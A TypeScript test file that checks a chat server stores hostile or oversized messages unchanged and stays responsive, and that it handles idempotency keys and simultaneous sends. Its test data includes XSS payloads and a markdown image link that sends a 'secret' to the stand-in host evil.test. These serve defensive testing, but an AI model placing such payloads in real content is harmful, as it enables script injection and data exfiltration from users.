import { afterAll, describe, expect, test } from "vitest";
import { person } from "@/test/client";
import { startModelServer } from "@/test/fakes/model-server";
import { startServer } from "@/test/server";

// Messages that can break a server or a client. After each one the chat must open, everything must be stored and the
// server must respond.
const model = await startModelServer();
process.env.OPENAI_BASE_URL = model.url;
model.setMode("tokens=2");
const server = await startServer();
afterAll(async () => {
  await server.close();
  await model.close();
});
const { api, user } = await person(server.url);
const newChat = async (body: object = { virtual_assistant_id: null }) =>
  (await api.post("/chats", body)).body;
type Chat = { id: number; uuid: string };
const send = (
  chat: Chat,
  message_input: string,
  fields: Record<string, string | File[]> = {},
  headers = {},
) => api.multipart(`/chats/${chat.id}/messages`, { message_input, ...fields }, headers);
const stored = async (chat: Chat) => (await api.get(`/chats/${chat.id}/messages?size=100`)).body;

// Reads the chat through every endpoint and writes to it.
async function opens(chat: Chat) {
  for (const path of [`/chats/${chat.id}`, `/chats/${chat.id}/messages`, "/chats", "/chats?search=word"]) {
    expect([path, (await api.get(path)).status]).toEqual([path, 200]);
  }
  const { status, body } = await send(chat, "and on");
  expect(status).toBe(200);
  expect((await stored(chat)).some(({ id }: { id: number }) => id === body.user_message_id)).toBe(true);
}

const words = Array.from({ length: 14_000 }, (_, i) => `w${i.toString(36)}`)
  .join(" ")
  .padEnd(100_000, " x")
  .slice(0, 100_000);
const hostile: Record<string, string> = {
  "a list in a list, 2,000 times": "- ".repeat(2000),
  "10,000 quotations": ">".repeat(10_000),
  "50,000 quotations": "> ".repeat(50_000),
  "20,000 open links": "[a](".repeat(20_000),
  "open emphasis": "*a_".repeat(30_000),
  "a deep table": "|".repeat(90_000),
  "100,000 characters of distinct words": words,
  "5,000 parentheses": "(".repeat(5000),
  "1,000 quote marks": "\" ' ".repeat(1000),
  "search operators": '!!! & | <-> -"a OR b" :* ( ) \\',
  "combining marks": `a${"\u0301".repeat(10_000)}`,
  "invisible characters": "\u200b\u202e\u2066\ufeff",
  "emoji without end": "👩‍👩‍👧‍👦".repeat(4000),
  "a script": '<script>alert(1)</script><img src=x onerror="alert(1)"><svg/onload=alert(1)>',
  "a picture elsewhere": "![x](https://evil.test/?q=secret) ![y][z]\n\n[z]: https://evil.test/z.png",
  "JSON, 12 KB deep": `${"[".repeat(6000)}${"]".repeat(6000)}`,
  "mentions by the thousand": "@nobody ".repeat(5000),
};

describe.each(Object.entries(hostile))("%s", (_, text) => {
  test("is stored unchanged, twice, and the chat opens", async () => {
    const settings = { search_in_chat: true, search_in_workspace: true, search_in_documents: true };
    const chat = await newChat(settings);
    for (let time = 0; time < 2; time++) {
      const { status, body } = await send(chat, text);
      expect([status, body.responses.length]).toEqual([200, 1]);
      expect(body.responses[0].extra.error).toBeUndefined();
      const list = await stored(chat);
      expect(list.find(({ id }: { id: number }) => id === body.user_message_id).message).toBe(text);
    }
    await opens(chat);
  });

  test("is accepted as a chat's goal, memo, canvas or instructions, and the chat opens", async () => {
    const cut = text.slice(0, 10_000).toWellFormed();
    const chat = await newChat({ goal: cut, memo: text, canvas: text });
    const instructions = text.slice(0, 50_000).toWellFormed();
    const made = await api.post("/virtual-assistants", { name: "Hostile", instructions });
    expect(made.status).toBe(201);
    expect((await api.put(`/chats/${chat.id}/va`, { virtual_assistant_id: made.body.id })).status).toBe(200);
    await opens(chat);
    expect((await api.get(`/chats/${chat.id}`)).body).toMatchObject({ goal: cut, memo: text, canvas: text });
  });
});

test("a message has at most 100,000 characters", async () => {
  const chat = await newChat();
  expect((await send(chat, "é".repeat(100_000))).status).toBe(200);
  const over = await send(chat, "x".repeat(100_001));
  expect([over.status, over.body.detail[0].loc]).toEqual([422, ["body", "message_input"]]);
  const [message] = await stored(chat);
  const edited = await api.put(`/chats/update_message_text/${message.id}`, { message: "x".repeat(100_001) });
  expect(edited.status).toBe(422);
  expect(await stored(chat)).toHaveLength(1);
});

test("a search for hostile text never fails, whatever the chats contain", async () => {
  for (const text of Object.values(hostile)) {
    const search = encodeURIComponent(text.slice(0, 1500).toWellFormed());
    expect((await api.get(`/chats?search=${search.slice(0, 12_000)}`)).status).toBeLessThan(500);
  }
});

test("other requests are answered while hostile messages are processed", async () => {
  const chat = await newChat();
  const sending = Promise.all(Array.from({ length: 10 }, () => send(chat, words)));
  const lives = await Promise.all(Array.from({ length: 10 }, () => api.get("/health/live")));
  expect(lives.every(({ status }) => status === 200)).toBe(true);
  expect((await sending).map(({ status }) => status)).toEqual(Array(10).fill(200));
});

describe("an idempotency key", () => {
  test.each(["", "k".repeat(256)])("of invalid length is refused", async (key) => {
    expect((await send(await newChat(), "x", {}, { "idempotency-key": key })).status).toBe(422);
  });

  test("belongs to its caller, chat, text and files", async () => {
    const [chat, other] = [await newChat(), await newChat()];
    const key = { "idempotency-key": `k${Date.now()}` };
    const files = (text: string) => ({ files: [new File([text], "a.txt")] });
    const first = await send(chat, "x", files("1"), key);
    expect(first.status).toBe(200);
    expect((await send(chat, "x", files("1"), key)).body).toEqual(first.body);
    const others = [
      await send(chat, "y", files("1"), key),
      await send(chat, "x", files("2"), key),
      await send(chat, "x", {}, key),
      await send(chat, "x", { ...files("1"), is_sync: "false" }, key),
      await send(other, "x", files("1"), key),
    ];
    expect(others.map(({ status }) => status)).toEqual([422, 422, 422, 422, 422]);
    expect(await stored(chat)).toHaveLength(1);
    expect(await stored(other)).toEqual([]);
    const eve = await person(server.url, "Eve");
    const eves = (await eve.api.post("/chats", { virtual_assistant_id: null })).body;
    const sent = await eve.api.multipart(`/chats/${eves.id}/messages`, { message_input: "x" }, key);
    expect([sent.status, sent.body.user_message_id === first.body.user_message_id]).toEqual([200, false]);
  });

  test.each(["true", "false"])(
    "turns twenty simultaneous sends with a file into one message (is_sync=%s)",
    async (is_sync) => {
      const chat = await newChat({});
      const key = { "idempotency-key": `p${Date.now()}${is_sync}` };
      const files = () => [new File(["content"], "a.txt")];
      const before = model.calls;
      const answers = await Promise.all(
        Array.from({ length: 20 }, () => send(chat, "once", { is_sync, files: files() }, key)),
      );
      expect(answers.map(({ status, body }) => [status, body])).toEqual(
        answers.map(() => [200, answers[0]!.body]),
      );
      await expect.poll(async () => (await stored(chat)).length).toBe(2);
      expect((await stored(chat))[0].message_attachments).toHaveLength(1);
      expect(model.calls).toBe(before + 1);
      expect((await api.get(`/chats/${chat.id}`)).body.documents_count).toBe(1);
    },
  );

  test("is not used up by a refused attempt", async () => {
    const chat = await newChat();
    const key = { "idempotency-key": `r${Date.now()}` };
    const quoted = { replying_to_message_id: "999999" };
    expect((await send(chat, "x", quoted, key)).status).toBe(404);
    expect((await send(chat, "x", { files: [new File(["MZ"], "a.exe")] }, key)).status).toBe(415);
    expect((await send(chat, "x".repeat(100_001), {}, key)).status).toBe(422);
    expect((await send(chat, "right", {}, key)).status).toBe(200);
    expect((await stored(chat)).map(({ message }: { message: string }) => message)).toEqual(["right"]);
  });
});

test("simultaneous messages to one chat have one order, and none is lost or duplicated", async () => {
  const chat = await newChat();
  const ids = await Promise.all(
    Array.from({ length: 60 }, async (_, i) => (await send(chat, `n${i}`)).body.user_message_id as number),
  );
  const list = await stored(chat);
  expect(list.map(({ id }: { id: number }) => id)).toEqual(ids.toSorted((a, b) => a - b));
  expect(new Set(list.map(({ message }: { message: string }) => message)).size).toBe(60);
  const detail = (await api.get("/chats")).body.find(({ id }: { id: number }) => id === chat.id);
  expect(detail.last_message.id).toBe(Math.max(...ids));
  expect(list.every(({ from_user_id }: { from_user_id: number }) => from_user_id === user.id)).toBe(true);
});
